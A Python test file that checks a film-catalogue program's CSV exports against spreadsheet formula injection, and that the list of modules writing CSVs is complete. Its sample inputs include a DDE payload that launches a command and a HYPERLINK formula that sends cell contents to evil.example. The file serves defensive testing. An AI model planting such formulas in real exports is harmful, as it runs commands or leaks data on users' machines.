"""No cell of a table that this program writes is run by the spreadsheet that opens it."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import cinequorum
from cinequorum.catalogue.records.matching import Matching, Pair
from cinequorum.catalogue.records.record import FilmRecord
from cinequorum.catalogue.records.sheets import write_matching
from cinequorum.diary.readers.common import Choices
from cinequorum.diary.reading import read_diary
from cinequorum.diary.record import Failed, FilmNamed, Record, Source
from cinequorum.diary.writing import letterboxd_tables, refused_table
from cinequorum.text.cells import tame, untamed
from cinequorum_web.curation.tables import Csv

RUN = (
    "=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "＝1", "＋1",
    "－1",
    "＠SUM(1)", "\x00=1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1)', "\x0b=1", "\u3000＝1",
)  # fmt: skip
WITHIN = ("a;=1", "a\t=1", "a\n=1", "a\r\n@x", "a|+1", 'a";=1')
SIGNS = "=+-@＝＋－＠"
WRITERS = {
    "cinequorum/catalogue/records/sheets.py", "cinequorum/diary/writing.py", "cinequorum_web/curation/tables.py",
}  # fmt: skip


@pytest.mark.parametrize("cell", [*RUN, *WITHIN])
def test_a_formula_becomes_text(cell: str) -> None:
    """And back again where the table is read here."""
    assert tame(cell)[:1].strip(SIGNS + " \t\r\n")
    assert not any(tame(cell)[at - 1 : at] in ";\t\r\n|" for at, char in enumerate(tame(cell)) if at and char in SIGNS)
    assert untamed(tame(cell)) == cell


@given(st.text(alphabet=st.sampled_from("=+-@＝ \t;|'ab\n"), max_size=12))
def test_whatever_it_is_made_of(cell: str) -> None:
    """No text begins with a sign afterwards, nor does what stands behind a separator in it."""
    held = tame(cell)
    assert held == cell or "'" in held
    assert not re.match(rf"\s*[{re.escape(SIGNS)}]", held)
    assert not re.search(rf"[;|\t\r\n][{re.escape(SIGNS)}]", held)


def test_prose_stays_as_it_is() -> None:
    """A dash or a plus within a sentence is no formula."""
    for told in ("well - yes", "a; b", "4/5", "C+", "a@b.example", "’tis", "'tis", "", "1=1"):
        assert tame(told) == untamed(told) == told


def cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.lstrip("\ufeff"), newline="")) for cell in row]


@pytest.mark.parametrize("cell", RUN)
def test_every_table_is_written_so(cell: str, tmp_path: Path) -> None:
    """Exports of the desk, matched records, a diary's tables, rows that were refused."""
    film = FilmRecord(key=cell, titles=(cell,), years=(), runtime=None, people=(), genres=frozenset())
    pair = Pair(left=film, right=film, p=0.9, alone=0.9, reasons=())
    write_matching(Matching(matched=(pair,), doubtful=(pair,), left=(film,), right=(film,)), tmp_path)
    Csv(tmp_path / "export.csv").write([{"title": cell, "titles": [cell, "b"]}])
    mine = Record(film=FilmNamed(title=f"{cell}a"), seen=True, review=cell, tags=(cell,))
    failed = Failed(source=Source(kind=cell, file=cell, row=2, raw=((cell, cell),)), code="x", message=cell)
    bodies = [path.read_bytes() for path in sorted(tmp_path.glob("*.csv"))]
    for body in (*bodies, *letterboxd_tables([mine]), refused_table([failed])):
        bad = [one for one in cells(body.decode("utf-8")) if tame(one) != one]
        assert not bad


def test_a_table_that_was_written_is_read_back() -> None:
    """The apostrophes are taken away again."""
    mine = Record(film=FilmNamed(title="-30-", year=1959), seen=True, review="=1;=2")
    (back,) = read_diary("x", letterboxd_tables([mine])[0], Choices()).rows
    assert isinstance(back, Record)
    assert (back.film.title, back.review) == ("-30-", "=1;=2")


def test_who_writes_tables_is_known() -> None:
    """Another place that writes them has to be looked at, and written down here."""
    root = Path(cinequorum.__file__).parent.parent
    writes = re.compile(r"csv\.(?:writer|DictWriter)")
    found = {str(path.relative_to(root)) for path in root.rglob("*.py") if writes.search(path.read_text("utf-8"))}
    assert found == WRITERS
